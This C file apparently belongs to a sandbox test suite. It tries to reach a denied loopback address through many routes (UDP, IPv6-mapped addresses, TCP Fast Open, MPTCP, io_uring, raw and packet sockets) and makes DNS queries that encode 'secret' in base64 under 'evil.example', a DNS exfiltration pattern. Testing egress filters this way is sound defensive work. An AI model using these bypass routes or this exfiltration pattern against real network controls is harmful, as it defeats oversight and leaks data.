/* Attempts to reach a denied address, or to ask for a denied name. */
#define _GNU_SOURCE
#include "evade.h"
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/io_uring.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#define DENIED "127.0.0.9"
#define OPEN "127.0.0.1"
#define PORT 7077
#define NAMES "127.0.0.8" /* the process outside answers there, on port 53 */

static struct sockaddr_in at(const char *address, int port) {
    struct sockaddr_in result = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, address, &result.sin_addr);
    return result;
}

/* A socket that does not wait for ever. */
static int hasty_socket(int family, int type, int protocol) {
    struct timeval limit = {.tv_usec = 700000};
    int fd = socket(family, type | SOCK_CLOEXEC, protocol);
    if (fd < 0) return -1;
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
    return fd;
}

static int answered(int fd) {
    char bytes[512];
    return recv(fd, bytes, sizeof bytes, 0) > 0 ? 0 : -1;
}

static int connect_to(const char *address, int type, int port, const void *say, size_t length) {
    struct sockaddr_in to = at(address, port);
    int fd = hasty_socket(AF_INET, type, 0);
    if (connect(fd, (void *)&to, sizeof to) || send(fd, say, length, MSG_NOSIGNAL) < 0) return -1;
    return answered(fd);
}

static int ordinary(void) { return connect_to(OPEN, SOCK_STREAM, PORT, "x", 1); }
int connect_denied(void) { return connect_to(DENIED, SOCK_STREAM, PORT, "x", 1); }
static int udp_connected(void) { return connect_to(DENIED, SOCK_DGRAM, PORT, "x", 1); }

static int udp_send(void) {
    struct sockaddr_in to = at(DENIED, PORT);
    int fd = hasty_socket(AF_INET, SOCK_DGRAM, 0);
    if (sendto(fd, "x", 1, 0, (void *)&to, sizeof to) < 0) return -1;
    return answered(fd);
}

static int udp_many(void) {
    struct sockaddr_in allowed = at(OPEN, PORT + 1), to = at(DENIED, PORT);
    struct iovec one = {"x", 1};
    struct mmsghdr messages[2] = {
        {.msg_hdr = {.msg_name = &allowed, .msg_namelen = sizeof allowed, .msg_iov = &one, .msg_iovlen = 1}},
        {.msg_hdr = {.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &one, .msg_iovlen = 1}},
    };
    int fd = hasty_socket(AF_INET, SOCK_DGRAM, 0);
    if (sendmmsg(fd, messages, 2, 0) < 2) return fail(EPERM);
    return answered(fd);
}

static int mapped(int type) {
    struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_port = htons(PORT)};
    inet_pton(AF_INET6, "::ffff:" DENIED, &to.sin6_addr);
    int fd = hasty_socket(AF_INET6, type, 0);
    if (connect(fd, (void *)&to, sizeof to) || send(fd, "x", 1, MSG_NOSIGNAL) < 0) return -1;
    return answered(fd);
}

static int mapped_tcp(void) { return mapped(SOCK_STREAM); }
static int mapped_udp(void) { return mapped(SOCK_DGRAM); }

static int fast_open(void) {
    struct sockaddr_in to = at(DENIED, PORT);
    int fd = hasty_socket(AF_INET, SOCK_STREAM, 0);
    if (sendto(fd, "x", 1, MSG_FASTOPEN | MSG_NOSIGNAL, (void *)&to, sizeof to) < 0) return -1;
    return answered(fd);
}

/* The connection is made by the first write, not by connect(2). */
static int fast_open_connect(void) {
    struct sockaddr_in to = at(DENIED, PORT);
    int fd = hasty_socket(AF_INET, SOCK_STREAM, 0), on = 1;
    setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof on);
    if (connect(fd, (void *)&to, sizeof to) || send(fd, "x", 1, MSG_NOSIGNAL) < 0) return -1;
    return answered(fd);
}

static int multipath(void) {
    struct sockaddr_in to = at(DENIED, PORT);
    int fd = hasty_socket(AF_INET, SOCK_STREAM, 262 /* IPPROTO_MPTCP */);
    if (fd < 0 || connect(fd, (void *)&to, sizeof to) || send(fd, "x", 1, MSG_NOSIGNAL) < 0) return -1;
    return answered(fd);
}

static int uring_connect(void) {
    struct sockaddr_in to = at(DENIED, PORT);
    int fd = hasty_socket(AF_INET, SOCK_STREAM, 0);
    struct io_uring_sqe operation = {.opcode = IORING_OP_CONNECT, .fd = fd, .addr = (unsigned long)&to, .off = sizeof to};
    int result = uring(&operation);
    if (result < 0) return fail(-result);
    return send(fd, "x", 1, MSG_NOSIGNAL) < 0 ? -1 : answered(fd);
}

static unsigned short sum(const void *from, size_t length) {
    const unsigned short *words = from;
    unsigned total = 0;
    for (size_t index = 0; index < length / 2; index++) total += words[index];
    return ~((total & 0xffff) + (total >> 16));
}

static int raw(void) {
    struct sockaddr_in to = at(DENIED, 0);
    struct icmphdr ping = {.type = ICMP_ECHO, .un.echo.id = htons(getpid() & 0xffff)};
    ping.checksum = sum(&ping, sizeof ping);
    int fd = hasty_socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    if (fd < 0 || sendto(fd, &ping, sizeof ping, 0, (void *)&to, sizeof to) < 0) return -1;
    for (int packet = 0; packet < 20; packet++) {
        struct { struct iphdr ip; struct icmphdr icmp; } got;
        if (recv(fd, &got, sizeof got, 0) < (ssize_t)sizeof got) return -1;
        if (got.icmp.type == ICMP_ECHOREPLY && got.icmp.un.echo.id == ping.un.echo.id && got.ip.saddr == to.sin_addr.s_addr) return 0;
    }
    return fail(ENOMSG);
}

static int ping_socket(void) {
    struct sockaddr_in to = at(DENIED, 0);
    struct icmphdr ping = {.type = ICMP_ECHO};
    int fd = hasty_socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
    if (fd < 0 || sendto(fd, &ping, sizeof ping, 0, (void *)&to, sizeof to) < 0) return -1;
    return answered(fd);
}

/* A datagram below the IP layer, which no hook for sockets' addresses sees. */
static int packet(void) {
    struct { struct iphdr ip; unsigned short ports[2], length, check; char bytes[2]; } __attribute__((packed)) datagram = {
        .ip = {.version = 4, .ihl = 5, .tot_len = htons(30), .ttl = 64, .protocol = IPPROTO_UDP},
        .length = htons(10), .bytes = "x"};
    struct sockaddr_in back = at(OPEN, 0), to = at(DENIED, PORT);
    socklen_t length = sizeof back;
    int answers = hasty_socket(AF_INET, SOCK_DGRAM, 0);
    if (bind(answers, (void *)&back, sizeof back) || getsockname(answers, (void *)&back, &length)) return -1;
    datagram.ip.saddr = back.sin_addr.s_addr, datagram.ip.daddr = to.sin_addr.s_addr;
    datagram.ip.check = sum(&datagram.ip, sizeof datagram.ip);
    datagram.ports[0] = back.sin_port, datagram.ports[1] = to.sin_port;
    struct sockaddr_ll link = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = if_nametoindex("lo"), .sll_halen = 6};
    int fd = hasty_socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
    if (fd < 0 || sendto(fd, &datagram, sizeof datagram, 0, (void *)&link, sizeof link) < 0) return -1;
    return answered(answers);
}

/* Of RFC 1035, section 4.1: one question for an address. */
static size_t question(const char *name, unsigned char *into) {
    static const unsigned char head[12] = {0x12, 0x34, 1, 0, 0, 1};
    unsigned char *end = into + sizeof head;
    memcpy(into, head, sizeof head);
    while (*name) {
        size_t length = strcspn(name, ".");
        *end++ = length;
        memcpy(end, name, length);
        end += length, name += length + (name[length] == '.');
    }
    memcpy(end, "\0\0\1\0\1", 5);
    return end + 5 - into;
}

static int ask(const char *name, int type) {
    unsigned char message[300];
    size_t length = question(name, message + 2);
    message[0] = length >> 8, message[1] = length;
    int framed = type == SOCK_STREAM ? 0 : 2;
    return connect_to(NAMES, type, 53, message + framed, length + 2 - framed);
}

static int ordinary_name(void) { return ask("good.example", SOCK_DGRAM); }
static int name(void) { return ask("c2VjcmV0.evil.example", SOCK_DGRAM); }
static int name_in_capitals(void) { return ask("c2VjcmV0.EvIl.ExAmPlE", SOCK_DGRAM); }
static int similar_name(void) { return ask("notevil.example", SOCK_DGRAM); }
static int name_over_tcp(void) { return ask("c2VjcmV0.evil.example", SOCK_STREAM); }

static int name_unconnected(void) {
    unsigned char message[300];
    size_t length = question("c2VjcmV0.evil.example", message);
    struct sockaddr_in to = at(NAMES, 53);
    int fd = hasty_socket(AF_INET, SOCK_DGRAM, 0);
    if (sendto(fd, message, length, 0, (void *)&to, sizeof to) < 0) return -1;
    return answered(fd);
}

static int name_on_other_port(void) {
    unsigned char message[300];
    size_t length = question("c2VjcmV0.evil.example", message);
    return connect_to(OPEN, SOCK_DGRAM, PORT, message, length);
}

const struct attempt network[] = {
    {"ordinary-connect", ordinary},
    {"connect", connect_denied},
    {"udp-connected", udp_connected},
    {"udp-sendto", udp_send},
    {"udp-sendmmsg", udp_many},
    {"mapped-tcp", mapped_tcp},
    {"mapped-udp", mapped_udp},
    {"fast-open", fast_open},
    {"fast-open-connect", fast_open_connect},
    {"multipath-tcp", multipath},
    {"uring-connect", uring_connect},
    {"raw-socket", raw},
    {"ping-socket", ping_socket},
    {"packet-socket", packet},
    {"ordinary-name", ordinary_name},
    {"similar-name", similar_name},
    {"dns", name},
    {"dns-capitals", name_in_capitals},
    {"dns-unconnected", name_unconnected},
    {"dns-over-tcp", name_over_tcp},
    {"dns-other-port", name_on_other_port},
    {0},
};
